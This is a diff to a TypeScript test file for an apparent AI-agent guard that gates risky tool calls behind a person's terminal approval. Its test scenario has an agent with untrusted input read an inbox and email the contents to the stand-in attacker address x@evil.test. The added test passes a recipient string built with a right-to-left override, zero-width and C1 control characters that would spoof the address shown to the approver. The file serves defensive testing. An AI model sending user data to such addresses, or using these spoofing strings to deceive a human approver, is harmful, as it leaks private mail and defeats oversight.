@@ -14,7 +14,7 @@ function terminal(typed: string | null) {
   return { input, output, shown: () => shown };
 }
 
-async function attempt(typed: string | null, timeoutMs = 5_000) {
+async function attempt(typed: string | null, timeoutMs = 5_000, to = 'x@evil.test') {
   const io = terminal(typed);
   const guard = createGuard({
     policy: emailBot(),
@@ -24,7 +24,7 @@ async function attempt(typed: string | null, timeoutMs = 5_000) {
   });
   const session = await guard.session('s', { input: 'untrusted' });
   await session.check({ id: 'c1', tool: 'read_inbox' });
-  const decision = await session.authorize({ id: 'c2', tool: 'send_email', args: { to: 'x@evil.test' } });
+  const decision = await session.authorize({ id: 'c2', tool: 'send_email', args: { to } });
   return { decision, shown: io.shown() };
 }
 
@@ -37,6 +37,14 @@ describe('terminal approver', () => {
     expect(shown).toContain('why gated: `send_email` is consequential (C) while the session holds AB');
     expect(shown).toContain("evidence: A from the session's own input");
     expect(shown).toContain('evidence: B from call of `read_inbox` (call c1)');
+  });
+
+  it('escapes the characters of the arguments a person cannot see: controls (C1 too) and bidi or zero-width marks', async () => {
+    // Rendered raw, the right-to-left override would show `x@evil.test` as `tset.live@x`, and C1 CSI (U+009B) is a
+    // terminal control sequence.
+    const { shown } = await attempt('no', 5_000, 'boss@corp.example\u202Etset.live@x\u200B\u009B2J');
+    expect(shown).toContain('"to":"boss@corp.example\\u202etset.live@x\\u200b\\u009b2J"');
+    expect(shown).not.toMatch(/[\u202e\u200b\u009b]/);
   });
 
   it.each([['y'], [''], ['no'], ['yes please']])('denies on %j', async (typed) => {
